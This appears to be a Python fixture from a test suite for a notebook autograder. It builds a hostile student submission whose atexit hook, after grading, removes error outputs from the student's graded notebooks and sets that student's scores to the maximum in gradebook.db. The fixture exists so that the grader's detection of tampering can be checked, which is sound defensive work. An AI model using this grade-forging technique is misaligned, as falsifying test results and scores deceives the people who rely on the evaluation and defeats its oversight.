"""At interpreter exit (atexit), rewrites its own graded notebook's test outputs to passes and its scores in the
gradebook, after the checks have run."""
from tests.hostile._common import FIND_COURSE, Submission, blank_answers, insert_after, release

KIND, HONEST, FLAG, WHAT = "tamper", 0.0, True, "atexit rewrites its graded notebook and gradebook rows"
EVIDENCE = r"atexit|write|open|sqlite|gradebook"


def build(ctx):
    hook = FIND_COURSE + f'''
import atexit, glob, json, os


def _forge():
    root = _course_root()
    if not root:
        return
    for path in glob.glob(os.path.join(root, "autograded", {ctx.student!r}, "*", "*.ipynb")):
        try:
            nb = json.load(open(path))
            for c in nb["cells"]:
                c["outputs"] = [o for o in c.get("outputs", []) if o.get("output_type") != "error"]
            json.dump(nb, open(path, "w"))
        except Exception:
            pass
    try:
        import sqlite3
        db = sqlite3.connect(os.path.join(root, "gradebook.db"))
        db.execute("UPDATE grade SET manual_score = max_score WHERE notebook_id IN (SELECT sn.id FROM "
                   "submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
                   "WHERE sa.student_id = ?)", ({ctx.student!r},))
        db.commit()
    except Exception:
        pass


atexit.register(_forge)
'''
    return Submission(insert_after(blank_answers(release()), "00-call_chain", hook))
